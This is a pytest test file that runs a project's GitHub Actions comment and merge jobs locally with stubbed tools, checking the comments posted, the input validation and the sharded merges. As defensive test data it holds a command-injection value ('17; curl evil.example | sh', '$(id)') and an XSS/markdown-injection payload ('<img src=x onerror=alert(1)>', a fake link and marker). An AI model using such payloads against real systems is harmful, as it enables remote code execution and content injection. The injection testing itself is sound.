"""The comment job of ``examples/github/convbudget-comment.yml``, run for real, without GitHub.

``test_workflows.py`` reads the workflows; here the comment job's ``run:``
steps run with bash, in order and under GitHub's own shell options, in a
folder laid out as the job's workspace after its ``uses:`` steps: the
default branch's ``pyproject.toml`` (the checkout) and the pull request's
artifact (its run file and number). ``gh`` is a stub that records its
arguments, hands out main's baseline artifact and keeps what would be
posted. ``python`` is this interpreter, except that ``pip`` is recorded,
not run, and torch and pytest cannot be imported: the job installs the
pinned release with ``--no-deps`` (and jinja2 alone, for the HTML page), so
its ``diff`` must render without them. The run files are the examples
project's (``tests/data/examples_outputs/``): main's baseline, and the branch
that grew a model past its budget.

The merge job of ``convbudget-pr-sharded.yml`` runs the same way, on the
branch's run file cut into two shards, and what it uploads is handed to the
comment job: a sharded pull request gets the comment an unsharded one gets.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from test_workflows import (
    BASELINE,
    COMMENT,
    PAGE_ARTIFACT,
    PR,
    RUN_ARTIFACT,
    SHARDED,
    artifact_names,
    diff_command,
    job_workflow,
    load,
    module_arguments,
    only_job,
    pr_number_file,
    project_version,
    pytest_arguments,
    uses,
)

from pytest_convbudget.render.markdown import COMMENT_MARKER
from pytest_convbudget.words.vocabulary import DEFAULT_MAX_FILE_SIZE

pytestmark = pytest.mark.skipif(sys.platform == "win32" or shutil.which("bash") is None,
                                reason="the job's steps are bash scripts run on ubuntu-latest")

OUTPUTS = Path(__file__).resolve().parent / "data" / "examples_outputs"
EXAMPLES_PYPROJECT = Path(__file__).resolve().parent.parent / "examples" / "pyproject.toml"
REPOSITORY = "octo/models"
PR_NUMBER = "17"
HEAD_SHA = "0123456789abcdef0123456789abcdef01234567"
BASELINE_SHA = "89abcdef0123456789abcdef0123456789abcdef"  # the push to main that made the baseline
SERVER = "https://github.com"
RUN_ID = "5151"  # the comment job's own run (the PR run it follows is 4343)
RUN_URL = f"{SERVER}/{REPOSITORY}/actions/runs/{RUN_ID}"
BOT = "github-actions[bot]"
# What the comment and merge jobs do not install: none of it may be needed to render or merge.
BLOCKED = ("torch", "pytest", "_pytest", "pluggy", "numpy", "yaml") + (
    ("tomli",) if sys.version_info >= (3, 11) else ()
)

SITECUSTOMIZE = f"""\
import sys

for name in {BLOCKED!r}:
    sys.modules[name] = None  # "import torch" raises ImportError, as where it is not installed
"""

PYTHON_SHIM = """\
#!/bin/sh
# python, as the comment job has it: pip is recorded (the pin is checked), everything else runs.
if [ "$1" = "-m" ] && [ "$2" = "pip" ]; then
  shift 2
  echo "$*" >> "$GH_STUB/pip.log"
  exit 0
fi
exec "{python}" "$@"
"""

GH_STUB = '''\
"""gh, as far as the comment job uses it: every call is recorded in calls.jsonl."""
import json
import os
import shutil
import subprocess
import sys

state = os.environ["GH_STUB"]
args = sys.argv[1:]
with open(os.path.join(state, "calls.jsonl"), "a", encoding="utf-8") as log:
    log.write(json.dumps(args) + "\\n")


def value(name):
    return args[args.index(name) + 1]


if args[:2] == ["run", "list"]:
    print(os.environ.get("STUB_BASELINE_RUN", ""))
elif args[:2] == ["run", "download"]:
    artifact = os.path.join(state, "artifacts", value("--name"))
    if args[2] != os.environ.get("STUB_BASELINE_RUN") or not os.path.isdir(artifact):
        sys.exit("no valid artifacts found to download")
    shutil.copytree(artifact, value("--dir"), dirs_exist_ok=True)
elif args[0] == "api":
    endpoint = next(word for word in args if word.startswith("repos/"))
    bodies = [word[len("body=@"):] for word in args if word.startswith("body=@")]
    if bodies:
        with open(os.path.join(state, "posted.jsonl"), "a", encoding="utf-8") as posted:
            with open(bodies[0], encoding="utf-8") as body:
                posted.write(json.dumps({"args": args, "body": body.read()}) + "\\n")
        print("{}")
    elif "/pulls/" in endpoint:
        print(os.environ["STUB_PR_SHA"])
    elif endpoint.endswith("/comments"):
        with open(os.path.join(state, "comments.json"), encoding="utf-8") as comments:
            listed = json.load(comments)
        if listed:  # the filter is the workflow's own, run by jq
            done = subprocess.run(["jq", "-r", value("--jq")], input=json.dumps(listed), text=True,
                                  capture_output=True, check=True)
            sys.stdout.write(done.stdout)
    else:
        sys.exit(f"gh stub: unexpected endpoint {endpoint}")
else:
    sys.exit(f"gh stub: unexpected command {args}")
'''


def trusted_pyproject(max_increase: str | None) -> str:
    """The default branch's pyproject.toml: the examples project's, with ``max_increase`` set in its table."""
    text = EXAMPLES_PYPROJECT.read_text(encoding="utf-8")
    if max_increase is None:
        return text
    assert "[tool.convbudget]\n" in text
    return text.replace("[tool.convbudget]\n", f"[tool.convbudget]\nmax_increase = {max_increase}\n", 1)


def golden_markdown(name: str) -> str:
    """A comment the examples project rendered: a file as written, or the stdout of a ``diff-*.txt``."""
    text = (OUTPUTS / name).read_text(encoding="utf-8")
    if name.startswith("diff-"):
        text = text.split("--- stdout\n", 1)[1].split("--- stderr\n", 1)[0]
    return text


def without_page_link(body: str, url: str = RUN_URL) -> str:
    """The comment less its one line that links to the page (``--page-url``), and the blank line
    that line added: what the examples' goldens, rendered with no page, hold."""
    lines = body.split("\n")
    (index,) = [i for i, line in enumerate(lines) if url in line]
    del lines[index]
    if 0 < index < len(lines) and lines[index - 1] == lines[index] == "":
        del lines[index - 1]
    return "\n".join(lines)


# max_increase = 5 in the trusted table: the same options as the plugin run that wrote branch-comment.md
# (--conv-max-increase=5). With none: as diff-markdown.txt, diff with no max_increase.
CONFIGS = {"max_increase 5": ("5", "branch-comment.md"), "no max_increase": (None, "diff-markdown.txt")}


@dataclass
class StepRun:
    name: str
    returncode: int
    stdout: str
    stderr: str


class Job:
    """A job's workspace, its tools (``python`` and the ``gh`` stub), and its run: by default the
    comment job; ``Job(root, SHARDED, "merge")`` the sharded workflow's merge job."""

    def __init__(self, root: Path, workflow: str = COMMENT, job: str | None = None) -> None:
        self.workflow = load(workflow)
        self.job = only_job(self.workflow) if job is None else self.workflow["jobs"][job]
        self.workspace = root / "workspace"
        self.state = root / "gh"
        self.bin = root / "bin"
        for folder in (self.workspace, self.state, self.bin, root / "site"):
            folder.mkdir(parents=True)
        (root / "site" / "sitecustomize.py").write_text(SITECUSTOMIZE, encoding="utf-8")
        self._tool("python", PYTHON_SHIM.format(python=sys.executable))
        (self.state / "gh.py").write_text(GH_STUB, encoding="utf-8")
        self._tool("gh", f'#!/bin/sh\nexec "{sys.executable}" "{self.state / "gh.py"}" "$@"\n')
        (self.state / "comments.json").write_text("[]", encoding="utf-8")
        self.env = {
            "PATH": f"{self.bin}:/usr/bin:/bin",
            "HOME": str(root),
            "LANG": "C.UTF-8",
            "PYTHONPATH": str(root / "site"),
            "PYTHONDONTWRITEBYTECODE": "1",
            "GITHUB_REPOSITORY": REPOSITORY,
            "GITHUB_SERVER_URL": SERVER,
            "GITHUB_RUN_ID": RUN_ID,
            "GITHUB_WORKSPACE": str(self.workspace),
            "GITHUB_ENV": str(self.state / "github_env"),
            "GH_STUB": str(self.state),
            "STUB_PR_SHA": HEAD_SHA,
            "STUB_BASELINE_RUN": "4242",
            **{key: str(value) for key, value in self.workflow.get("env", {}).items()},
        }
        self.expressions = {
            "github.token": "stub-token",
            "github.event.workflow_run.head_sha": HEAD_SHA,
            "github.event.workflow_run.id": "4343",
            "github.event.pull_request.number": PR_NUMBER,  # the merge job's
            "needs.compare.result": "success",
        }

    def _tool(self, name: str, text: str) -> None:
        path = self.bin / name
        path.write_text(text, encoding="utf-8")
        path.chmod(0o755)

    def lay_out(self, *, pyproject: str, run_file: bytes | None, number: str = PR_NUMBER,
                baseline: bytes | None = None, artifact: dict[str, bytes] | None = None) -> None:
        """The workspace after the job's actions: the checkout's pyproject.toml at the root, the pull
        request's artifact where download-artifact puts it, and main's baseline artifact for ``gh``,
        each file where the workflows' paths say (see ``test_workflows.test_files_line_up_between_the_jobs``).
        ARTIFACT: the files of another ``convbudget-run`` (the sharded workflow's), by their names in it."""
        (self.workspace / "pyproject.toml").write_text(pyproject, encoding="utf-8")
        pr_workflow = load(PR)
        (upload,) = uses(pr_workflow, "actions/upload-artifact")
        inside = artifact_names(upload["with"]["path"].split())
        (gate,) = pytest_arguments(pr_workflow)
        (run_path,) = [word.split("=", 1)[1] for word in gate if word.startswith("--conv-run-file=")]
        (download,) = uses(self.workflow, "actions/download-artifact")
        folder = self.workspace / download["with"]["path"]
        folder.mkdir()
        if artifact is not None:
            for name, data in artifact.items():
                (folder / name).write_bytes(data)
        else:
            if run_file is not None:
                (folder / inside[run_path]).write_bytes(run_file)
            (folder / inside[pr_number_file(pr_workflow)]).write_text(number + "\n", encoding="utf-8")

        (baseline_upload,) = uses(load(BASELINE), "actions/upload-artifact")
        path = baseline_upload["with"]["path"]
        artifact = self.state / "artifacts" / baseline_upload["with"]["name"]
        artifact.mkdir(parents=True)
        (artifact / artifact_names([path])[path]).write_bytes(
            baseline if baseline is not None else (OUTPUTS / "baseline.json").read_bytes()
        )

    def _expand(self, text: str) -> str:
        return re.sub(r"\$\{\{\s*(.*?)\s*\}\}", lambda m: self.expressions[m.group(1)], text)

    def run(self) -> list[StepRun]:
        """Each ``run:`` step in order, as GitHub runs it (``bash --noprofile --norc -eo pipefail``);
        after a failure only ``always()`` steps run. ``$GITHUB_ENV`` carries values to later steps."""
        done: list[StepRun] = []
        failed = False
        for index, step in enumerate(self.job["steps"]):
            if "run" not in step:
                continue  # an action: its work is laid out beforehand
            condition = step.get("if")
            assert condition in (None, "always()"), f"the harness cannot evaluate if: {condition}"
            if failed and condition is None:
                continue
            env = {**self.env, **self._github_env(),
                   **{key: self._expand(str(value)) for key, value in step.get("env", {}).items()}}
            script = self.state / f"step-{index}.sh"
            script.write_text(step["run"], encoding="utf-8")
            result = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)], check=False,
                                    cwd=self.workspace, env=env, capture_output=True, text=True, timeout=120)
            done.append(StepRun(step.get("name", step["run"].split()[0]), result.returncode,
                                result.stdout, result.stderr))
            failed = failed or result.returncode != 0
        return done

    def _github_env(self) -> dict[str, str]:
        path = Path(self.env["GITHUB_ENV"])
        lines = path.read_text(encoding="utf-8").splitlines() if path.exists() else []
        return dict(line.split("=", 1) for line in lines)

    def calls(self) -> list[list[str]]:
        path = self.state / "calls.jsonl"
        return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()] if path.exists() else []

    def posted(self) -> list[dict[str, Any]]:
        path = self.state / "posted.jsonl"
        return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()] if path.exists() else []

    def pip(self) -> list[str]:
        path = self.state / "pip.log"
        return path.read_text(encoding="utf-8").splitlines() if path.exists() else []

    def python(self, *args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
        """The job's ``python`` (torch, pytest and jinja2 not importable), in the workspace."""
        return subprocess.run([str(self.bin / "python"), *args], check=False, cwd=cwd or self.workspace,
                              env=self.env, capture_output=True, text=True, timeout=120)


def step(runs: list[StepRun], words: str) -> StepRun:
    (found,) = [run for run in runs if words in run.name]
    return found


@pytest.fixture
def job(tmp_path: Path) -> Job:
    return Job(tmp_path)


def branch_run() -> bytes:
    return (OUTPUTS / "branch-run.json").read_bytes()


def test_the_jobs_python_has_no_torch_or_pytest(job: Job) -> None:
    """The harness's own check: what the comment job does not install cannot be imported here either,
    while the package itself can, and jinja2 (which the job installs for the page)."""
    for name in ("torch", "pytest"):
        done = job.python("-c", f"import {name}")
        assert done.returncode == 1 and f"import of {name} halted" in done.stderr, (name, done.stderr)
    done = job.python("-c", "import sys, jinja2, pytest_convbudget.cli.diff, pytest_convbudget.cli.merge\n"
                      "print([name for name in ('torch', 'pytest') if sys.modules.get(name)])")
    assert (done.returncode, done.stdout) == (0, "[]\n"), done.stderr


@pytest.mark.parametrize("config", sorted(CONFIGS))
def test_the_diff_line_renders_the_examples_comment(job: Job, config: str) -> None:
    """The workflow's own ``diff`` line, run in the workspace: exit 1 (the branch grew UNet3D past its
    budget), a comment that starts with the marker and is, byte for byte, what the plugin's run with the
    same options wrote (``branch-comment.md``), or what ``diff`` wrote with no max_increase."""
    max_increase, golden = CONFIGS[config]
    job.lay_out(pyproject=trusted_pyproject(max_increase), run_file=branch_run())
    arguments, output = diff_command(job.workflow)
    baseline_folder = job.workspace / Path(arguments[1]).parent
    shutil.copytree(job.state / "artifacts" / "convbudget-baseline", baseline_folder)
    arguments = [re.sub(r"\$([A-Z_]+)", lambda m: job.env[m.group(1)], word) for word in arguments]

    done = job.python("-m", "pytest_convbudget", *arguments)
    (job.workspace / output).write_text(done.stdout, encoding="utf-8")

    assert done.returncode == 1, done.stderr
    assert done.stderr == ""
    comment = (job.workspace / output).read_text(encoding="utf-8")
    assert comment.startswith(COMMENT_MARKER + "\n")
    assert without_page_link(comment) == golden_markdown(golden)


def test_a_regressed_pull_request_gets_the_comment(job: Job) -> None:
    """The whole job: the pin installed alone, the number checked, main's baseline fetched, diff
    exits 1 and the comment (the examples' golden) is posted as a new comment on pull request 17."""
    job.lay_out(pyproject=trusted_pyproject("5"), run_file=branch_run())
    runs = job.run()

    assert [run.returncode for run in runs] == [0] * len(runs), runs
    assert job.pip() == [f"install --no-deps pytest-convbudget=={project_version()}", "install jinja2>=3.0"]
    (posted,) = job.posted()
    assert posted["args"] == ["api", f"repos/{REPOSITORY}/issues/{PR_NUMBER}/comments", "-F", "body=@comment.md"]
    assert without_page_link(posted["body"]) == golden_markdown("branch-comment.md")
    assert page_run(job).startswith("<!DOCTYPE html>")
    assert ["api", f"repos/{REPOSITORY}/pulls/{PR_NUMBER}", "--jq", ".head.sha"] in job.calls()
    (download,) = [call for call in job.calls() if call[:2] == ["run", "download"]]
    assert download[2] == "4242"


@pytest.mark.skipif(shutil.which("jq") is None, reason="the sticky comment's filter is run by jq")
def test_the_bots_own_comment_is_updated_not_a_lookalike(job: Job) -> None:
    """Anyone can post a comment that starts with the marker; the job edits only its own."""
    (job.state / "comments.json").write_text(json.dumps([
        {"id": 1, "user": {"login": "someone"}, "body": "great work"},
        {"id": 2, "user": {"login": "mallory"}, "body": f"{COMMENT_MARKER}\n✅ all good"},
        {"id": 3, "user": {"login": BOT}, "body": f"{COMMENT_MARKER}\n❌ an older run"},
    ]), encoding="utf-8")
    job.lay_out(pyproject=trusted_pyproject("5"), run_file=branch_run())
    runs = job.run()

    assert all(run.returncode == 0 for run in runs), runs
    (posted,) = job.posted()
    assert posted["args"] == ["api", "--method", "PATCH", f"repos/{REPOSITORY}/issues/comments/3",
                              "-F", "body=@comment.md"]
    assert without_page_link(posted["body"]) == golden_markdown("branch-comment.md")


def _corrupt(kind: str) -> bytes:
    text = branch_run().decode("utf-8")
    if kind == "truncated":
        return text[: len(text) // 2].encode("utf-8")
    data = json.loads(text)
    if kind == "another schema":
        data["schema"] = "my-own/run"
    elif kind == "a count as text":
        data["costs"][data["measurements"][0]["cost"]]["flops"] = "lots"
    elif kind == "not a list":
        data["measurements"] = {"a": 1}
    return json.dumps(data).encode("utf-8")


@pytest.mark.parametrize("kind", ["truncated", "another schema", "a count as text", "not a list"])
def test_a_refused_run_file_posts_nothing_and_fails_the_job(job: Job, kind: str) -> None:
    """diff exits 2 on a run file it refuses: the render step fails with diff's one-line error in
    the log, no comment file is left, and the post step never runs."""
    job.lay_out(pyproject=trusted_pyproject("5"), run_file=_corrupt(kind))
    runs = job.run()

    render = step(runs, "Render the comment")
    assert render.returncode == 2
    errors = [line for line in render.stderr.splitlines() if line]
    assert len(errors) == 1 and errors[0].startswith("convbudget diff: error: pr/convbudget-head.json: "), errors
    assert "exited 2: no comment posted" in render.stdout
    assert runs[-1] is render, "no step runs after the refusal"
    assert job.posted() == []
    assert not any(call[0] == "api" and "comments" in " ".join(call) for call in job.calls())
    assert not (job.workspace / "comment.md").exists()
    assert not (job.workspace / "report.html").exists()


def test_a_run_file_over_the_size_limit_posts_nothing(job: Job) -> None:
    """A run file bigger than the limit (the default: no max_file_size in the trusted table; a
    sparse file here) is refused unread, like a malformed one."""
    job.lay_out(pyproject=trusted_pyproject("5"), run_file=branch_run())
    with (job.workspace / "pr" / "convbudget-head.json").open("r+b") as stream:
        stream.truncate(DEFAULT_MAX_FILE_SIZE + 1)
    runs = job.run()

    render = step(runs, "Render the comment")
    assert render.returncode == 2 and runs[-1] is render
    assert render.stderr.startswith("convbudget diff: error: pr/convbudget-head.json: ")
    assert render.stderr.count("\n") == 1
    assert job.posted() == []


@pytest.mark.parametrize("number", ["17; curl evil.example | sh", "", "17\n18", "-1", "$(id)"])
def test_a_bad_pull_request_number_stops_the_job_first(job: Job, number: str) -> None:
    """The number is checked before anything reads the run file or asks GitHub about it."""
    job.lay_out(pyproject=trusted_pyproject("5"), run_file=branch_run(), number=number)
    runs = job.run()

    assert runs[-1].name == "Check the pull request number" and runs[-1].returncode == 1
    assert "bad pull request number" in runs[-1].stdout
    assert job.calls() == [] and job.posted() == []


def test_a_number_not_at_the_tested_commit_stops_the_job(job: Job) -> None:
    """A run file uploaded for pull request 17 by a run of another commit (another pull request's
    run naming 17, or 17 pushed again since) is not posted on 17."""
    job.lay_out(pyproject=trusted_pyproject("5"), run_file=branch_run())
    job.env["STUB_PR_SHA"] = "f" * 40
    runs = job.run()

    assert runs[-1].name == "Check the pull request number" and runs[-1].returncode == 1
    assert f"PR #{PR_NUMBER} is not at {HEAD_SHA}" in runs[-1].stdout
    assert job.posted() == []


@pytest.mark.parametrize("missing", ["baseline", "run file"])
def test_nothing_to_compare_posts_nothing_quietly(job: Job, missing: str) -> None:
    """No baseline on main yet, or a PR job that stopped before measuring: the PR job already fails
    (that is the check that matters); the comment job says why in its log and posts nothing."""
    job.lay_out(pyproject=trusted_pyproject("5"), run_file=None if missing == "run file" else branch_run())
    if missing == "baseline":
        job.env["STUB_BASELINE_RUN"] = ""
    runs = job.run()

    assert all(run.returncode == 0 for run in runs), runs
    assert ("no baseline from main" if missing == "baseline" else "no run file") in step(runs, "Render the comment").stdout
    assert "no comment: no page" in step(runs, "Render the HTML page").stdout
    assert "nothing to post" in runs[-1].stdout
    assert job.posted() == []
    assert not (job.workspace / "report.html").exists()


HOSTILE_TEST = "test_examples.py::test_unet3d_volume[<img src=x onerror=alert(1)> [approve](https://evil.example) @octocat]"
HOSTILE_NAME = "UNet3D`|\n\n## ✅ merged, all good\n<!-- pytest-convbudget -->"
PAYLOADS = ("<img", "](https://evil", "@octocat", "## ✅", "<!--")


def _hostile(source: str) -> bytes:
    data = json.loads((OUTPUTS / source).read_text(encoding="utf-8"))
    for measurement in data["measurements"]:
        if measurement["test_id"] == "test_examples.py::test_unet3d_volume":
            measurement["test_id"], measurement["name"] = HOSTILE_TEST, HOSTILE_NAME
    return json.dumps(data).encode("utf-8")


def test_hostile_names_stay_inert_in_the_posted_comment(job: Job) -> None:
    """A run file is the pull request's to write, names included: outside code (a markdown code span,
    or an escaped ``<code>`` inside the HTML of ``<summary>``), no part of a name may reach the comment
    as markup (an image, a link, a mention, a heading, a second marker), and no name may add a line."""
    job.lay_out(pyproject=trusted_pyproject("5"), run_file=_hostile("branch-run.json"),
                baseline=_hostile("baseline.json"))
    runs = job.run()

    assert all(run.returncode == 0 for run in runs), runs
    (posted,) = job.posted()
    body = posted["body"]
    assert body.startswith(COMMENT_MARKER + "\n")
    assert len(without_page_link(body).splitlines()) == len(golden_markdown("branch-comment.md").splitlines())
    for line in body.splitlines()[1:]:
        outside = re.sub(r"`[^`]*`|<code>[^<]*</code>", "", line)
        assert not [payload for payload in PAYLOADS if payload in outside], line
    page = page_run(job)
    assert "<img src=x" not in page and "&lt;img src=x" in page


def page_run(job: Job) -> str:
    """The page the job kept for its artifact, where that artifact's upload step takes it."""
    (upload,) = uses(job.workflow, "actions/upload-artifact")
    assert upload["with"]["name"] == PAGE_ARTIFACT
    return (job.workspace / upload["with"]["path"]).read_text(encoding="utf-8")


def test_the_page_is_the_examples_page_and_the_comment_links_to_this_run(job: Job) -> None:
    """With no max_increase, the page the job keeps is, byte for byte, what ``diff --format html``
    wrote for the examples (``diff-html.txt``); the comment links to this run (where GitHub lists
    the page's artifact), not to the PR run it follows."""
    job.lay_out(pyproject=trusted_pyproject(None), run_file=branch_run())
    runs = job.run()

    assert [run.returncode for run in runs] == [0] * len(runs), runs
    base = diff_command(job.workflow, "html")[0][1]  # the page names the baseline's path; the golden's is baseline.json
    assert page_run(job) == golden_markdown("diff-html.txt").replace("<code>baseline.json</code>", f"<code>{base}</code>", 1)
    (posted,) = job.posted()
    (link,) = [line for line in posted["body"].splitlines() if "/actions/runs/" in line]
    assert f"({RUN_URL})" in link and "4343" not in link
    assert without_page_link(posted["body"]) == golden_markdown("diff-markdown.txt")


def test_the_comment_names_the_baselines_commit(job: Job) -> None:
    """The baseline job runs on pushes to main, where GitHub sets GITHUB_SHA and the plugin keeps it
    in the run file's environment: the comment names the commit main's numbers come from."""
    data = json.loads((OUTPUTS / "baseline.json").read_text(encoding="utf-8"))
    data["environment"]["commit"] = BASELINE_SHA
    job.lay_out(pyproject=trusted_pyproject("5"), run_file=branch_run(), baseline=json.dumps(data).encode("utf-8"))
    runs = job.run()

    assert [run.returncode for run in runs] == [0] * len(runs), runs
    (posted,) = job.posted()
    (line,) = [line for line in posted["body"].splitlines() if BASELINE_SHA[:7] in line]
    assert RUN_URL in line  # one line: the baseline's commit and the page


def shard_files(first: slice = slice(0, 4), second: slice = slice(4, None), *,
                data: dict[str, Any] | None = None) -> dict[str, bytes]:
    """The branch's run file cut into two shards' run files (measurements FIRST and SECOND, whole tests
    each), by the names they have after the merge job's download (``merge-multiple``: one folder).
    Each says, as a shard deselected by pytest-split does, which measuring tests it ran and which not."""
    whole = data if data is not None else json.loads(branch_run())
    merge = load(SHARDED)["jobs"]["merge"]
    (download,) = [step for step in merge["steps"] if step.get("uses", "").startswith("actions/download-artifact@")]
    (arguments,) = module_arguments(job_workflow(load(SHARDED), "merge"), "pytest_convbudget")
    inputs = [word for word in arguments[1:] if word.startswith(download["with"]["path"] + "/")]
    assert len(inputs) == 2
    parts = [whole["measurements"][part] for part in (first, second)]
    tests = [list(dict.fromkeys(measurement["test_id"] for measurement in part)) for part in parts]
    found = {}
    for index, (path, part) in enumerate(zip(inputs, parts)):
        measuring = list(dict.fromkeys(measurement["test_id"] for measurement in whole["measurements"]))
        coverage = {"collected_whole_suite": True, "measuring": measuring, "ran": tests[index]}
        found[path] = json.dumps({**whole, "measurements": part, "coverage": coverage}).encode("utf-8")
    return found


class MergeJob(Job):
    """The sharded workflow's merge job: its workspace after the checkout and the shards' download."""

    def __init__(self, root: Path) -> None:
        super().__init__(root, SHARDED, "merge")

    def lay_out_shards(self, shards: dict[str, bytes]) -> None:
        (self.workspace / "pyproject.toml").write_text(trusted_pyproject(None), encoding="utf-8")
        for path, data in shards.items():
            (self.workspace / path).parent.mkdir(parents=True, exist_ok=True)
            (self.workspace / path).write_bytes(data)

    def artifact(self) -> dict[str, bytes]:
        """What the ``convbudget-run`` upload takes, by the names it has in the artifact."""
        (upload,) = [step for step in self.job["steps"] if step.get("uses", "").startswith("actions/upload-artifact@")
                     and step["with"]["name"] == RUN_ARTIFACT]
        paths = upload["with"]["path"].split()
        return {inside: (self.workspace / path).read_bytes()
                for path, inside in artifact_names(paths).items() if (self.workspace / path).exists()}


def test_a_sharded_pull_request_gets_the_same_comment(tmp_path: Path) -> None:
    """The merge job (the pinned release alone: no torch, no pytest) joins the two shards' run files;
    what it uploads, handed to the comment job, gets the comment the unsharded run file gets."""
    merge = MergeJob(tmp_path / "merge")
    merge.lay_out_shards(shard_files())
    runs = merge.run()

    assert [run.returncode for run in runs] == [0] * len(runs), runs
    assert merge.pip() == [f"install --no-deps pytest-convbudget=={project_version()}"]
    artifact = merge.artifact()
    assert sorted(artifact) == ["convbudget-head.json", "pr-number.txt"]
    assert artifact["pr-number.txt"] == f"{PR_NUMBER}\n".encode()
    merged = json.loads(artifact["convbudget-head.json"])
    assert merged["measurements"] == json.loads(branch_run())["measurements"]
    assert merged["coverage"]["ran"] == merged["coverage"]["measuring"]  # together the shards ran the whole suite

    comment = Job(tmp_path / "comment")
    comment.lay_out(pyproject=trusted_pyproject("5"), run_file=None, artifact=artifact)
    runs = comment.run()
    assert [run.returncode for run in runs] == [0] * len(runs), runs
    (posted,) = comment.posted()
    assert without_page_link(posted["body"]) == golden_markdown("branch-comment.md")


def test_a_failed_shard_still_hands_its_run_file_on_and_fails_the_merge_job(tmp_path: Path) -> None:
    """A shard over budget fails (the matrix job's result is failure), but its run file is there:
    the merge and the upload still happen, so the comment comes, and the merge job fails."""
    merge = MergeJob(tmp_path)
    merge.expressions["needs.compare.result"] = "failure"
    merge.lay_out_shards(shard_files())
    runs = merge.run()

    assert [run.returncode for run in runs[:-1]] == [0] * (len(runs) - 1), runs
    assert runs[-1].returncode == 1 and "a shard did not pass: failure" in runs[-1].stdout
    assert sorted(merge.artifact()) == ["convbudget-head.json", "pr-number.txt"]


@pytest.mark.parametrize("problem", ["a shard's run file missing", "shards that disagree"])
def test_shards_that_do_not_merge_fail_the_job_and_hand_on_no_run_file(tmp_path: Path, problem: str) -> None:
    """A shard that wrote no run file, or two shards that measured one test differently: merge exits 2
    with one line, writes nothing, and the artifact holds the number alone (the comment job then says
    "no run file" and posts nothing); the job fails."""
    shards = shard_files()
    if problem == "a shard's run file missing":
        del shards[sorted(shards)[1]]
    else:
        whole = json.loads(branch_run())
        changed = json.loads(json.dumps(whole["measurements"][0]))
        cost = json.loads(json.dumps(whole["costs"][changed["cost"]]))
        cost["flops"] += 1  # the same test measured differently: a cost of its own
        whole["costs"].append(cost)
        changed["cost"] = len(whole["costs"]) - 1
        whole["measurements"].append(changed)
        shards = shard_files(slice(0, 4), slice(4, None), data=whole)
    merge = MergeJob(tmp_path)
    merge.lay_out_shards(shards)
    runs = merge.run()

    (merging,) = [run for run in runs if run.name.startswith("Merge")]
    assert merging.returncode == 2
    errors = [line for line in merging.stderr.splitlines() if line]
    assert len(errors) == 1 and errors[0].startswith("convbudget merge: error: "), errors
    assert (sorted(shard_files())[1] if problem == "a shard's run file missing" else "not shards of one run") in errors[0]
    assert sorted(merge.artifact()) == ["pr-number.txt"]
    assert runs[-1].returncode == 0  # the shards passed; the job failed at the merge already
